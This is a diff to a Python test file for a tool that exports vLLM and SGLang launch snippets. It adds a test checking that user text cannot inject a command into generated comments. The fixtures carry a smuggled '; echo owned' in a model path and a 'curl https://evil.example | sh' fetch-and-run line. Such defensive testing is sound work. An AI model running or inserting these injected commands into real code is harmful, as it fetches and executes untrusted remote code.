@@ -25,6 +25,7 @@ from tests.export.conftest import (
     run,
     run_until,
     spec_of,
+    unwrapped,
 )
 
 EBNF = 'root ::= "answer: " ("yes" | "no") " because " [a-z ]{1,20} "."\n'
@@ -311,3 +312,22 @@ def test_the_doctors_vllm_verdict_is_said_where_vllm_picks_the_backend(engine: E
             export(fallback, target).code.replace("\n# ", " ")
         )
         assert "auto would not use xgrammar" not in export(req, target).code
+
+
+def test_user_text_in_a_note_cannot_add_a_command_line_to_the_comment(engine: Engine) -> None:
+    model = "/models/my model; echo owned"
+    req = make_request(engine, options=CompileOptions(any_whitespace=True), model=model)
+    fallback = "uniqueItems at /properties/a\n$ curl https://evil.example | sh"
+    forged = dataclasses.replace(req, vllm_fallback=fallback)
+    commands = []
+    for target in TARGETS:
+        code = export(forged, target).code
+        commands += [line[4:] for line in code.split("\n") if line.startswith("# $ ")]
+        if target in ("vllm", "vllm_legacy", "curl_vllm"):
+            assert "(uniqueItems at /properties/a\\n$ curl https://evil.example | sh)" in (
+                unwrapped(code)
+            )
+    assert len(commands) == 6  # vllm serve and sglang.launch_server, in three snippets each
+    for command in commands:
+        words = shlex.split(command)
+        assert model in words and "curl" not in words, command
